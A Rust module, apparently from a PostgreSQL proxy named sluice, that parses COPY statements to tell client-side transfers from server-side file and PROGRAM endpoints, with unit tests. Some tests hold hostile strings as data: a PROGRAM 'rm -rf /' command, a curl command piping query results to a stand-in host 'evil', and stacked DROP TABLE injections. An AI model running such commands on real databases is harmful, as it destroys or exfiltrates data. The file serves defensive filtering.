//! A fallback reader for `COPY` statements that sqlparser cannot parse.
//!
//! sqlparser 0.64 knows most of `COPY`, but not all of PostgreSQL 15's
//! options: `pgbench -i` sends `copy pgbench_accounts from stdin with
//! (freeze on)`, which it rejects. A gateway that denied every statement it
//! cannot parse would break pgbench and every loader like it, so this module
//! reads `COPY` itself, on top of [`super::lexer`], which splits text
//! exactly as the server does.
//!
//! What matters for policy is where the data goes and comes from: a file or
//! a program on the database server is an export or an attack, while
//! `STDIN`/`STDOUT` stay on the wire where sluice sees (and masks) every row.
//! So the reader follows PostgreSQL 15's grammar exactly for everything that
//! decides the direction and the endpoint, accepts the options loosely
//! (none of them changes where data flows), and gives up — returning `None`,
//! so the caller denies the statement — on anything else: a second
//! statement, a `WHERE` clause, trailing text, a name that cannot be a table.
//!
//! The grammar (PostgreSQL 15):
//! ```text
//! COPY [BINARY] table [(column, ...)] {FROM | TO} [PROGRAM] {'file' | STDIN | STDOUT}
//!      [[USING] DELIMITERS 'c'] [WITH] [(option [value], ...) | legacy options]
//!      [WHERE condition]
//! COPY (query) TO [PROGRAM] {'file' | STDIN | STDOUT} [WITH] [(option [value], ...) | legacy options]
//! ```
//! `STDIN` and `STDOUT` are interchangeable: both mean the client,
//! whichever the direction (`COPY t FROM STDOUT` reads from the client).

use super::lexer::{self, SpannedToken, Token, is_symbol, is_word};
use super::quote_identifier;

/// What a `COPY` reads from or writes to inside the database.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CopySource {
    /// A table, with the columns named (empty: all of them). The name is as
    /// the lexer delivers it: folded to lower case unless quoted. A
    /// three-part `database.schema.table` name keeps only its last two
    /// parts; PostgreSQL refuses it unless the database is the current one.
    Table {
        schema: Option<String>,
        name: String,
        columns: Vec<String>,
    },
    /// A query in parentheses (`COPY (SELECT ...) TO ...`): its byte range
    /// in the statement text, without the parentheses and the whitespace and
    /// comments next to them, to be analysed as a statement of its own.
    Query { text_offset: usize, text_len: usize },
}

/// Whether data flows into the database (`FROM`) or out of it (`TO`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CopyDirection {
    From,
    To,
}

/// Where the data comes from or goes to outside the database.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CopyEndpoint {
    /// The client connection (`STDIN` or `STDOUT`), through sluice.
    Stdio,
    /// A file on the database server (the path as written).
    File(String),
    /// A shell command run on the database server.
    Program(String),
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CopyCommand {
    pub source: CopySource,
    pub direction: CopyDirection,
    pub endpoint: CopyEndpoint,
    pub format: DataFormat,
}

/// How the data is written, as the statement's options say: what sluice
/// needs to read COPY TO STDOUT text and csv rows field by field. Options
/// are taken as written; PostgreSQL validates them, and refuses the
/// statement before any data flows if they are wrong.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct DataFormat {
    pub kind: FormatKind,
    pub delimiter: Option<String>,
    pub null: Option<String>,
    pub quote: Option<String>,
    pub escape: Option<String>,
    /// A header line comes before the rows.
    pub header: bool,
    /// The data is converted to this encoding rather than the client's.
    pub encoding: Option<String>,
    /// An option whose value this reader does not interpret (a later
    /// PostgreSQL's, or one PostgreSQL will refuse): the data's shape is
    /// not known for certain.
    pub unrecognised: bool,
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum FormatKind {
    #[default]
    Text,
    Csv,
    Binary,
}

/// The source of a `COPY ... TO STDOUT` and how its data is written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CopyOut {
    /// A query returning the rows the COPY sends, with the same columns and
    /// types.
    pub query: String,
    pub format: DataFormat,
}

/// For a `COPY ... TO STDOUT`, a query that returns the rows it will send,
/// with the same columns and types — `SELECT cols FROM table` for the table
/// form (names exact, quoted), the query itself for `COPY (query)` — and
/// the format of its data. sluice describes the query upstream to learn the
/// types of the COPY's fields. `None` for any other statement, or one this
/// reader is not certain about.
pub fn copy_out(text: &str, standard_conforming_strings: bool) -> Option<CopyOut> {
    let copy = read(text, standard_conforming_strings)?;
    if copy.direction != CopyDirection::To || copy.endpoint != CopyEndpoint::Stdio {
        return None;
    }
    let query = match copy.source {
        CopySource::Table {
            schema,
            name,
            columns,
        } => {
            let columns = if columns.is_empty() {
                "*".to_owned()
            } else {
                columns
                    .iter()
                    .map(|c| quote_identifier(c))
                    .collect::<Vec<_>>()
                    .join(", ")
            };
            let table = match schema {
                Some(schema) => {
                    format!("{}.{}", quote_identifier(&schema), quote_identifier(&name))
                }
                None => quote_identifier(&name),
            };
            format!("SELECT {columns} FROM {table}")
        }
        CopySource::Query {
            text_offset,
            text_len,
        } => text.get(text_offset..text_offset + text_len)?.to_owned(),
    };
    Some(CopyOut {
        query,
        format: copy.format,
    })
}

/// Whether `text` is a `COPY` statement this reader cannot read in full
/// (its first word is COPY) that may be a COPY TO STDOUT, in any format:
/// what it sends must still be paired with it, and refused. One whose
/// beginning reads as a COPY FROM, or TO a file or program, sends no data
/// to the client whatever options follow.
pub fn unreadable_copy(text: &str, standard_conforming_strings: bool) -> bool {
    let Some((tokens, holds_more)) = statement_tokens(text, standard_conforming_strings) else {
        return false;
    };
    if !tokens
        .first()
        .is_some_and(|spanned| is_word(&spanned.token, "copy"))
        || read(text, standard_conforming_strings).is_some()
    {
        return false;
    }
    // Text that holds more than one statement may hold a COPY TO STDOUT
    // after the first.
    if holds_more {
        return true;
    }
    let mut reader = Reader {
        tokens: &tokens,
        next: 0,
    };
    !reader.head().is_some_and(|head| {
        head.direction == CopyDirection::From || head.endpoint != CopyEndpoint::Stdio
    })
}

/// Reads a COPY statement, or None when it is not one this reader is certain
/// about (the caller then treats the text as unparsed and denies it).
pub fn read(text: &str, standard_conforming_strings: bool) -> Option<CopyCommand> {
    let (tokens, holds_more) = statement_tokens(text, standard_conforming_strings)?;
    // One statement only: the server would run whatever follows.
    if holds_more {
        return None;
    }
    let mut reader = Reader {
        tokens: &tokens,
        next: 0,
    };
    let command = reader.copy_statement()?;
    reader.at_end().then_some(command)
}

/// The tokens of `text` (None if it does not lex), without the `;` it may
/// end with (psql sends one: nothing runs after it); and whether a `;`
/// remains, when the text holds more than one statement (or the caller did
/// not split it).
fn statement_tokens(
    text: &str,
    standard_conforming_strings: bool,
) -> Option<(Vec<SpannedToken>, bool)> {
    let mut tokens = lexer::spanned_tokens(text, standard_conforming_strings).ok()?;
    while tokens
        .last()
        .is_some_and(|spanned| is_symbol(&spanned.token, ";"))
    {
        tokens.pop();
    }
    let holds_more = tokens.iter().any(|spanned| is_symbol(&spanned.token, ";"));
    Some((tokens, holds_more))
}

/// Keywords that PostgreSQL 15 does not accept as an unquoted table or
/// column name (`ColId`): the reserved keywords and those reserved for type
/// and function names, from `pg_get_keywords()` (catcode `R` and `T`).
#[rustfmt::skip]
const NOT_A_NAME: &[&str] = &[
    // Reserved.
    "all", "analyse", "analyze", "and", "any", "array", "as", "asc", "asymmetric", "both", "case",
    "cast", "check", "collate", "column", "constraint", "create", "current_catalog",
    "current_date", "current_role", "current_time", "current_timestamp", "current_user",
    "default", "deferrable", "desc", "distinct", "do", "else", "end", "except", "false", "fetch",
    "for", "foreign", "from", "grant", "group", "having", "in", "initially", "intersect", "into",
    "lateral", "leading", "limit", "localtime", "localtimestamp", "not", "null", "offset", "on",
    "only", "or", "order", "placing", "primary", "references", "returning", "select",
    "session_user", "some", "symmetric", "table", "then", "to", "trailing", "true", "union",
    "unique", "user", "using", "variadic", "when", "where", "window", "with",
    // Reserved for type and function names.
    "authorization", "binary", "collation", "concurrently", "cross", "current_schema", "freeze",
    "full", "ilike", "inner", "is", "isnull", "join", "left", "like", "natural", "notnull",
    "outer", "overlaps", "right", "similar", "tablesample", "verbose",
];

/// A cursor over the statement's tokens. Every method either consumes what
/// it recognises or leaves the cursor where it was.
struct Reader<'t> {
    tokens: &'t [SpannedToken],
    next: usize,
}

impl Reader<'_> {
    fn peek(&self) -> Option<&Token> {
        self.tokens.get(self.next).map(|spanned| &spanned.token)
    }

    fn advance(&mut self) -> Option<&Token> {
        let token = self.tokens.get(self.next).map(|spanned| &spanned.token);
        self.next += 1;
        token
    }

    fn at_end(&self) -> bool {
        self.next >= self.tokens.len()
    }

    fn eat_word(&mut self, word: &str) -> bool {
        let found = self.peek().is_some_and(|token| is_word(token, word));
        if found {
            self.next += 1;
        }
        found
    }

    fn eat_symbol(&mut self, symbol: &str) -> bool {
        let found = self.peek().is_some_and(|token| is_symbol(token, symbol));
        if found {
            self.next += 1;
        }
        found
    }

    fn copy_statement(&mut self) -> Option<CopyCommand> {
        let mut command = self.head()?;
        if matches!(command.source, CopySource::Table { .. }) {
            // The pre-7.3 way to give the delimiter.
            let using = self.eat_word("using");
            if self.eat_word("delimiters") {
                command.format.delimiter = Some(self.string()?);
            } else if using {
                return None;
            }
        }
        command.format = self.options(command.format)?;
        // A WHERE clause filters COPY FROM (and is an error on COPY TO);
        // this reader does not analyse conditions, so it gives up.
        Some(command)
    }

    /// A COPY up to where its data goes: its source, direction and
    /// endpoint, and the format so far (`BINARY` before a table's name).
    fn head(&mut self) -> Option<CopyCommand> {
        if !self.eat_word("copy") {
            return None;
        }
        if self.eat_symbol("(") {
            let source = self.parenthesised_query()?;
            // A query can only be copied out.
            if !self.eat_word("to") {
                return None;
            }
            return Some(CopyCommand {
                source,
                direction: CopyDirection::To,
                endpoint: self.endpoint()?,
                format: DataFormat::default(),
            });
        }
        // BINARY is not a possible table name, so here it is the old
        // spelling of the binary format.
        let mut format = DataFormat::default();
        if self.eat_word("binary") {
            format.kind = FormatKind::Binary;
        }
        let (schema, name) = self.qualified_name()?;
        let columns = if self.eat_symbol("(") {
            let columns = self.column_list()?;
            if !self.eat_symbol(")") {
                return None;
            }
            columns
        } else {
            Vec::new()
        };
        let direction = if self.eat_word("from") {
            CopyDirection::From
        } else if self.eat_word("to") {
            CopyDirection::To
        } else {
            return None;
        };
        Some(CopyCommand {
            source: CopySource::Table {
                schema,
                name,
                columns,
            },
            direction,
            endpoint: self.endpoint()?,
            format,
        })
    }

    /// The query of `COPY (query) TO`, whose `(` has been consumed: its text
    /// runs to the matching `)`. Nothing inside is interpreted here.
    fn parenthesised_query(&mut self) -> Option<CopySource> {
        let first = self.next;
        let mut depth = 1usize;
        while depth > 0 {
            match self.advance()? {
                Token::Symbol(s) if s == "(" => depth += 1,
                Token::Symbol(s) if s == ")" => depth -= 1,
                _ => {}
            }
        }
        let closing = self.next - 1;
        if closing == first {
            return None;
        }
        let start = self.tokens[first].start;
        let end = self.tokens[closing - 1].end;
        Some(CopySource::Query {
            text_offset: start,
            text_len: end - start,
        })
    }

    /// `table`, `schema.table` or `database.schema.table`.
    fn qualified_name(&mut self) -> Option<(Option<String>, String)> {
        let mut parts = vec![self.name()?];
        while parts.len() < 3 && self.eat_symbol(".") {
            // After a dot any keyword is a name (`s.select` is a table).
            parts.push(self.label()?);
        }
        let name = parts.pop()?;
        Some((parts.pop(), name))
    }

    /// A name that may stand first in a qualified name or as a column: a
    /// quoted identifier, or a word that is not a reserved keyword.
    fn name(&mut self) -> Option<String> {
        match self.peek()? {
            Token::QuotedIdentifier(name) => {
                let name = name.clone();
                self.next += 1;
                Some(name)
            }
            Token::Word(word) if !NOT_A_NAME.contains(&word.as_str()) => {
                let word = word.clone();
                self.next += 1;
                Some(word)
            }
            _ => None,
        }
    }

    /// Any word or quoted identifier.
    fn label(&mut self) -> Option<String> {
        match self.peek()? {
            Token::QuotedIdentifier(name) | Token::Word(name) => {
                let name = name.clone();
                self.next += 1;
                Some(name)
            }
            _ => None,
        }
    }

    fn string(&mut self) -> Option<String> {
        match self.peek()? {
            Token::String(value) => {
                let value = value.clone();
                self.next += 1;
                Some(value)
            }
            _ => None,
        }
    }

    /// `column [, column ...]`: at least one name.
    fn column_list(&mut self) -> Option<Vec<String>> {
        let mut columns = vec![self.name()?];
        while self.eat_symbol(",") {
            columns.push(self.name()?);
        }
        Some(columns)
    }

    /// `[PROGRAM] 'text'`, `STDIN` or `STDOUT`. A string after PROGRAM is a
    /// command, otherwise a file name; PostgreSQL refuses PROGRAM STDIN.
    fn endpoint(&mut self) -> Option<CopyEndpoint> {
        let program = self.eat_word("program");
        if let Some(target) = self.string() {
            return Some(if program {
                CopyEndpoint::Program(target)
            } else {
                CopyEndpoint::File(target)
            });
        }
        if !program && (self.eat_word("stdin") || self.eat_word("stdout")) {
            return Some(CopyEndpoint::Stdio);
        }
        None
    }

    /// `[WITH] (option [value], ...)` or `[WITH] legacy options`, onto
    /// `format`. Options shape the data, never where it goes, so any
    /// option of the right shape is accepted; those that shape the data
    /// are kept.
    fn options(&mut self, format: DataFormat) -> Option<DataFormat> {
        self.eat_word("with");
        if self.eat_symbol("(") {
            return self.generic_options(format);
        }
        self.legacy_options(format)
    }

    /// The list of `(option [value], ...)` whose `(` has been consumed, up to
    /// its matching `)`: at least one option, each a name and an optional
    /// value that may itself be a parenthesised list.
    fn generic_options(&mut self, mut format: DataFormat) -> Option<DataFormat> {
        loop {
            let name = match self.advance()? {
                Token::Word(name) | Token::QuotedIdentifier(name) => name.clone(),
                _ => return None,
            };
            let value = self.option_value()?;
            format.apply(&name, value);
            if self.eat_symbol(")") {
                return Some(format);
            }
            if !self.eat_symbol(",") {
                return None;
            }
        }
    }

    /// An option's value, up to the `,` or `)` after it: `None` (outer)
    /// when the tokens cannot be one, `Some(None)` when there is none.
    fn option_value(&mut self) -> Option<Option<OptionValue>> {
        let first = self.next;
        let mut depth = 0usize;
        loop {
            match self.peek()? {
                Token::Symbol(s) if (s == "," || s == ")") && depth == 0 => break,
                Token::Symbol(s) if s == "(" => depth += 1,
                Token::Symbol(s) if s == ")" => depth -= 1,
                _ => {}
            }
            self.next += 1;
        }
        Some(match &self.tokens[first..self.next] {
            [] => None,
            [single] => Some(match &single.token {
                Token::Word(word) | Token::QuotedIdentifier(word) => {
                    OptionValue::Word(word.clone())
                }
                Token::String(text) => OptionValue::String(text.clone()),
                Token::Number(number) => OptionValue::Word(number.clone()),
                _ => OptionValue::Other,
            }),
            _ => Some(OptionValue::Other),
        })
    }

    /// The options before PostgreSQL 9.0's parenthesised syntax, in any
    /// order, possibly none.
    fn legacy_options(&mut self, mut format: DataFormat) -> Option<DataFormat> {
        loop {
            if self.eat_word("binary") {
                format.kind = FormatKind::Binary;
                continue;
            }
            if self.eat_word("csv") {
                format.kind = FormatKind::Csv;
                continue;
            }
            if self.eat_word("header") {
                format.header = true;
                continue;
            }
            if self.eat_word("freeze") {
                continue;
            }
            let text_option = ["delimiter", "null", "quote", "escape"]
                .into_iter()
                .find(|word| self.eat_word(word));
            if let Some(name) = text_option {
                self.eat_word("as");
                let value = self.string()?;
                format.apply(name, Some(OptionValue::String(value)));
                continue;
            }
            if self.eat_word("encoding") {
                format.encoding = Some(self.string()?);
                continue;
            }
            if self.eat_word("force") {
                if self.eat_word("quote") {
                    if !self.eat_symbol("*") {
                        self.column_list()?;
                    }
                } else if self.eat_word("not") {
                    if !self.eat_word("null") {
                        return None;
                    }
                    self.column_list()?;
                } else if self.eat_word("null") {
                    self.column_list()?;
                } else {
                    return None;
                }
                continue;
            }
            return Some(format);
        }
    }
}

/// The value of a parenthesised option, as far as the format needs it.
enum OptionValue {
    /// A keyword, identifier or number (`csv`, `true`, `1`).
    Word(String),
    String(String),
    /// A list, `*`, a signed number: nothing a format option takes.
    Other,
}

impl DataFormat {
    /// Applies option `name` (lower case) with `value`, as PostgreSQL 15's
    /// `ProcessCopyOptions` reads it.
    fn apply(&mut self, name: &str, value: Option<OptionValue>) {
        let text = match &value {
            Some(OptionValue::Word(text) | OptionValue::String(text)) => Some(text.clone()),
            _ => None,
        };
        match name {
            "format" => match text.as_deref() {
                Some("text") => self.kind = FormatKind::Text,
                Some("csv") => self.kind = FormatKind::Csv,
                Some("binary") => self.kind = FormatKind::Binary,
                _ => self.unrecognised = true,
            },
            "header" => match value {
                None => self.header = true,
                Some(_) => match text.as_deref().and_then(boolean) {
                    Some(header) => self.header = header,
                    None => self.unrecognised = true,
                },
            },
            "delimiter" | "null" | "quote" | "escape" | "encoding" => {
                let Some(text) = text else {
                    self.unrecognised = true;
                    return;
                };
                let slot = match name {
                    "delimiter" => &mut self.delimiter,
                    "null" => &mut self.null,
                    "quote" => &mut self.quote,
                    "escape" => &mut self.escape,
                    _ => &mut self.encoding,
                };
                *slot = Some(text);
            }
            // These change which columns are quoted or read as NULL on
            // input, or how rows are loaded: never how a field reads.
            "force_quote" | "force_not_null" | "force_null" | "freeze" => {}
            _ => self.unrecognised = true,
        }
    }
}

/// A boolean option value as PostgreSQL's `defGetBoolean` reads it.
fn boolean(text: &str) -> Option<bool> {
    match text.to_ascii_lowercase().as_str() {
        "true" | "on" | "1" => Some(true),
        "false" | "off" | "0" => Some(false),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read_ok(sql: &str) -> CopyCommand {
        match read(sql, true) {
            Some(command) => command,
            None => panic!("{sql:?} should read as COPY"),
        }
    }

    #[test]
    fn a_statement_may_end_with_semicolons_but_hold_no_second_one() {
        assert_eq!(
            read_ok("COPY cards TO STDOUT;"),
            read_ok("COPY cards TO STDOUT")
        );
        read_ok("COPY cards TO STDOUT ; ;");
        assert!(read("COPY cards TO STDOUT; SELECT 1", true).is_none());
        assert!(unreadable_copy("COPY cards TO STDOUT; SELECT 1", true));
        assert!(!unreadable_copy("COPY cards TO STDOUT;", true));
        assert!(!unreadable_copy("SELECT 'copy'", true));
    }

    /// A COPY this reader cannot read in full may still be known to send
    /// the client nothing: one FROM anywhere, or TO a file or program.
    #[test]
    fn an_unreadable_copy_that_sends_no_data_is_known_as_such() {
        for sql in [
            "COPY cards FROM STDIN WHERE id > 1",
            "COPY cards (pan) FROM STDIN (FORMAT text) WHERE pan <> ''",
            "COPY cards TO '/tmp/x' USING DELIMITERS",
            "COPY (SELECT pan FROM cards) TO PROGRAM 'cat' WITH ((",
        ] {
            assert!(read(sql, true).is_none(), "{sql}");
            assert!(!unreadable_copy(sql, true), "{sql}");
        }
        for sql in [
            "COPY cards TO STDOUT USING DELIMITERS",
            "COPY (SELECT pan FROM cards) TO STDOUT WITH ((",
            // What follows the first statement is not read.
            "COPY cards FROM STDIN; COPY cards TO STDOUT",
            // Nor is a COPY whose beginning is not read.
            "COPY cards * TO STDOUT",
        ] {
            assert!(unreadable_copy(sql, true), "{sql}");
        }
    }

    fn table(schema: Option<&str>, name: &str, columns: &[&str]) -> CopySource {
        CopySource::Table {
            schema: schema.map(str::to_owned),
            name: name.to_owned(),
            columns: columns.iter().map(|c| (*c).to_owned()).collect(),
        }
    }

    fn command(
        source: CopySource,
        direction: CopyDirection,
        endpoint: CopyEndpoint,
    ) -> CopyCommand {
        CopyCommand {
            source,
            direction,
            endpoint,
            format: DataFormat::default(),
        }
    }

    #[test]
    fn pgbench_initial_load() {
        assert_eq!(
            read_ok("copy pgbench_accounts from stdin with (freeze on)"),
            command(
                table(None, "pgbench_accounts", &[]),
                CopyDirection::From,
                CopyEndpoint::Stdio
            )
        );
    }

    #[test]
    fn quoted_names_and_columns() {
        assert_eq!(
            read_ok("COPY \"My Table\" (a, \"B\") FROM STDIN"),
            command(
                table(None, "My Table", &["a", "B"]),
                CopyDirection::From,
                CopyEndpoint::Stdio
            )
        );
        assert_eq!(
            read_ok("COPY Public.\"T\" TO STDOUT").source,
            table(Some("public"), "T", &[])
        );
        // Any keyword may follow a dot; a three-part name drops the database.
        assert_eq!(
            read_ok("COPY s.select TO STDOUT").source,
            table(Some("s"), "select", &[])
        );
        assert_eq!(
            read_ok("COPY db.s.t TO STDOUT").source,
            table(Some("s"), "t", &[])
        );
        // Unreserved keywords are fine as names, reserved ones are not.
        assert_eq!(
            read_ok("COPY stdin FROM stdin").source,
            table(None, "stdin", &[])
        );
        assert_eq!(
            read_ok("COPY \"to\" TO STDOUT").source,
            table(None, "to", &[])
        );
    }

    #[test]
    fn options_in_parentheses() {
        assert_eq!(
            read_ok("COPY s.t TO STDOUT WITH (FORMAT csv, HEADER)"),
            CopyCommand {
                format: DataFormat {
                    kind: FormatKind::Csv,
                    header: true,
                    ..DataFormat::default()
                },
                ..command(
                    table(Some("s"), "t", &[]),
                    CopyDirection::To,
                    CopyEndpoint::Stdio
                )
            }
        );
        let sql = "COPY t TO STDOUT (format csv, force_quote *, force_not_null (a, b), delimiter E'\\t', x -1.5)";
        assert_eq!(read_ok(sql).endpoint, CopyEndpoint::Stdio);
    }

    #[test]
    fn query_source_gives_the_query_text() {
        let sql = "COPY (SELECT * FROM cards WHERE f(x) > (1)) TO STDOUT";
        let copy = read_ok(sql);
        assert_eq!(copy.direction, CopyDirection::To);
        assert_eq!(copy.endpoint, CopyEndpoint::Stdio);
        let CopySource::Query {
            text_offset,
            text_len,
        } = copy.source
        else {
            panic!("expected a query source, got {:?}", copy.source);
        };
        assert_eq!(
            &sql[text_offset..text_offset + text_len],
            "SELECT * FROM cards WHERE f(x) > (1)"
        );

        let sql = "copy ( /* c */ select ')' ) to stdout";
        let CopySource::Query {
            text_offset,
            text_len,
        } = read_ok(sql).source
        else {
            panic!("expected a query source");
        };
        assert_eq!(&sql[text_offset..text_offset + text_len], "select ')'");
    }

    #[test]
    fn endpoints_on_the_server() {
        assert_eq!(
            read_ok("copy t to program 'rm -rf /'").endpoint,
            CopyEndpoint::Program("rm -rf /".to_owned())
        );
        assert_eq!(
            read_ok("copy t to '/tmp/x'").endpoint,
            CopyEndpoint::File("/tmp/x".to_owned())
        );
        assert_eq!(
            read_ok("COPY t FROM PROGRAM 'x'"),
            command(
                table(None, "t", &[]),
                CopyDirection::From,
                CopyEndpoint::Program("x".to_owned())
            )
        );
        assert_eq!(
            read_ok("COPY t TO $$/tmp/x$$").endpoint,
            CopyEndpoint::File("/tmp/x".to_owned())
        );
        assert_eq!(
            read_ok("COPY t TO U&'/tmp/\\0078'").endpoint,
            CopyEndpoint::File("/tmp/x".to_owned())
        );
        assert_eq!(
            read_ok("COPY (SELECT 1) TO PROGRAM 'curl -d @- evil'").endpoint,
            CopyEndpoint::Program("curl -d @- evil".to_owned())
        );
    }

    #[test]
    fn stdin_and_stdout_both_mean_the_client() {
        assert_eq!(read_ok("COPY t FROM STDOUT").endpoint, CopyEndpoint::Stdio);
        assert_eq!(read_ok("COPY t TO STDIN").endpoint, CopyEndpoint::Stdio);
    }

    #[test]
    fn legacy_syntax() {
        assert_eq!(
            read_ok("COPY BINARY t TO STDOUT"),
            CopyCommand {
                format: DataFormat {
                    kind: FormatKind::Binary,
                    ..DataFormat::default()
                },
                ..command(
                    table(None, "t", &[]),
                    CopyDirection::To,
                    CopyEndpoint::Stdio
                )
            }
        );
        assert_eq!(
            read_ok("COPY t TO STDOUT CSV HEADER").endpoint,
            CopyEndpoint::Stdio
        );
        assert_eq!(
            read_ok("COPY t TO STDOUT WITH").endpoint,
            CopyEndpoint::Stdio
        );
        assert_eq!(
            read_ok("COPY t FROM STDIN USING DELIMITERS '|'").endpoint,
            CopyEndpoint::Stdio
        );
        let sql = "COPY t TO STDOUT WITH BINARY CSV HEADER NULL AS 'x' DELIMITER ',' QUOTE AS '\"' \
                   ESCAPE '\\' ENCODING 'utf8' FORCE QUOTE * FORCE QUOTE a, b FORCE NOT NULL a FORCE NULL b";
        assert_eq!(read_ok(sql).endpoint, CopyEndpoint::Stdio);
    }

    #[test]
    fn comments_cannot_hide_the_endpoint() {
        assert_eq!(
            read_ok("COPY t TO /* STDOUT */ PROGRAM 'x'").endpoint,
            CopyEndpoint::Program("x".to_owned())
        );
        assert_eq!(
            read_ok("COPY t TO -- STDOUT\n '/etc/x'").endpoint,
            CopyEndpoint::File("/etc/x".to_owned())
        );
        assert_eq!(
            read_ok("COPY t TO 'a' -- ' PROGRAM 'b'").endpoint,
            CopyEndpoint::File("a".to_owned())
        );
    }

    #[test]
    fn standard_conforming_strings_decide_where_a_path_ends() {
        // On, the backslash is a character: the file is `a\`.
        let sql = r"COPY t TO 'a\' NULL '\'";
        assert_eq!(
            read(sql, true).map(|c| c.endpoint),
            Some(CopyEndpoint::File(r"a\".to_owned()))
        );
        assert_eq!(read(sql, false), None);
        // Off, `\'` is a quote: the file name runs on over the "PROGRAM".
        let sql = r"COPY t TO 'a\' TO PROGRAM '";
        assert_eq!(read(sql, true), None);
        assert_eq!(
            read(sql, false).map(|c| c.endpoint),
            Some(CopyEndpoint::File("a' TO PROGRAM ".to_owned()))
        );
    }

    #[test]
    fn more_than_one_statement_is_refused() {
        assert_eq!(read("COPY t TO STDOUT; DROP TABLE x", true), None);
        assert_eq!(read("COPY t TO STDOUT;; DROP TABLE x", true), None);
        assert_eq!(read("COPY (SELECT 1; DROP TABLE x) TO STDOUT", true), None);
    }

    #[test]
    fn what_postgres_would_refuse_or_this_reader_does_not_analyse_is_refused() {
        for sql in [
            "",
            "garbage",
            "COPY",
            "COPY t",
            "COPY t TO",
            "COPY t STDOUT",
            "COPY t TO STDOUT trailing",
            "COPY t TO PROGRAM STDOUT",
            "COPY t FROM PROGRAM STDIN",
            "COPY t TO PROGRAM",
            "COPY t TO \"stdout\"",
            "COPY t TO N'/tmp/x'",
            "COPY t TO B'01'",
            "COPY t TO STDOUT WITH ()",
            "COPY t TO STDOUT WITH (FORMAT csv) CSV",
            "COPY t TO STDOUT WITH (FORMAT csv",
            "COPY t TO STDOUT WITH ('x')",
            "COPY t TO STDOUT WITH OIDS",
            "COPY t TO STDOUT DELIMITER",
            "COPY t TO STDOUT FORCE",
            "COPY t TO STDOUT USING",
            "COPY t FROM STDIN WHERE a > 1",
            "COPY t TO STDOUT WHERE a > 1",
            "COPY t () TO STDOUT",
            "COPY t (a,) TO STDOUT",
            "COPY t (select) TO STDOUT",
            "COPY select TO STDOUT",
            "COPY BINARY TO STDOUT",
            "COPY BINARY (SELECT 1) TO STDOUT",
            "COPY a.b.c.d TO STDOUT",
            "COPY t[1] TO STDOUT",
            "COPY () TO STDOUT",
            "COPY (SELECT 1) FROM STDIN",
            "COPY (SELECT 1) TO STDOUT USING DELIMITERS '|'",
            "COPY (SELECT 1 TO STDOUT",
            "COPY t TO 'unterminated",
            "SELECT 1",
            "\"copy\" t TO STDOUT",
        ] {
            assert_eq!(read(sql, true), None, "{sql:?}");
        }
    }

    #[test]
    fn the_source_of_a_copy_out_is_a_query_with_its_columns() {
        let query = |sql: &str| copy_out(sql, true).map(|out| out.query);
        assert_eq!(
            query("COPY Cards (id, \"PAN\") TO STDOUT (FORMAT binary)").as_deref(),
            Some("SELECT \"id\", \"PAN\" FROM \"cards\"")
        );
        assert_eq!(
            query("copy public.cards to stdout binary").as_deref(),
            Some("SELECT * FROM \"public\".\"cards\"")
        );
        assert_eq!(
            query("COPY ( SELECT 1 AS \"a\"\"b\" ) TO STDOUT WITH (FORMAT binary)").as_deref(),
            Some("SELECT 1 AS \"a\"\"b\"")
        );
        for not_out in [
            "COPY cards FROM STDIN",
            "COPY cards TO '/tmp/x'",
            "COPY cards TO PROGRAM 'cat'",
            "SELECT 1",
        ] {
            assert_eq!(copy_out(not_out, true), None, "{not_out}");
        }
    }

    #[test]
    fn the_format_of_a_copy_out_is_read_from_either_syntax() {
        let format = |sql: &str| read_ok(sql).format;
        let text = DataFormat::default();
        let csv = DataFormat {
            kind: FormatKind::Csv,
            ..DataFormat::default()
        };
        assert_eq!(format("COPY t TO STDOUT"), text);
        assert_eq!(format("COPY t TO STDOUT (FORMAT text)"), text);
        assert_eq!(format("COPY t TO STDOUT (format 'csv')"), csv);
        assert_eq!(format("COPY t TO STDOUT CSV"), csv);
        assert_eq!(
            format(
                r"COPY t TO STDOUT (FORMAT csv, DELIMITER ';', NULL 'n/a', QUOTE '''', ESCAPE E'\\', HEADER on, FORCE_QUOTE *, ENCODING 'latin1')"
            ),
            DataFormat {
                kind: FormatKind::Csv,
                delimiter: Some(";".to_owned()),
                null: Some("n/a".to_owned()),
                quote: Some("'".to_owned()),
                escape: Some("\\".to_owned()),
                header: true,
                encoding: Some("latin1".to_owned()),
                unrecognised: false,
            }
        );
        assert_eq!(
            format(
                "COPY t TO STDOUT WITH CSV HEADER DELIMITER AS '|' NULL AS '' QUOTE '\"' FORCE QUOTE a, b"
            ),
            DataFormat {
                kind: FormatKind::Csv,
                delimiter: Some("|".to_owned()),
                null: Some(String::new()),
                quote: Some("\"".to_owned()),
                header: true,
                ..DataFormat::default()
            }
        );
        assert_eq!(
            format("COPY t TO STDOUT USING DELIMITERS '|'")
                .delimiter
                .as_deref(),
            Some("|")
        );
        assert!(format("COPY t TO STDOUT (HEADER false, HEADER 1)").header);
        assert!(!format("COPY t TO STDOUT (HEADER off)").header);
        assert_eq!(
            format("COPY t TO STDOUT (FORMAT binary)").kind,
            FormatKind::Binary
        );
        // What this reader cannot interpret is flagged, not guessed at.
        for unsure in [
            "COPY t TO STDOUT (FORMAT \"CSV\")",
            "COPY t TO STDOUT (FORMAT json)",
            "COPY t TO STDOUT (HEADER match)",
            "COPY t TO STDOUT (DELIMITER (a))",
            "COPY t TO STDOUT (NULL)",
            "COPY t TO STDOUT (new_option 1)",
        ] {
            assert!(format(unsure).unrecognised, "{unsure}");
        }
    }
}
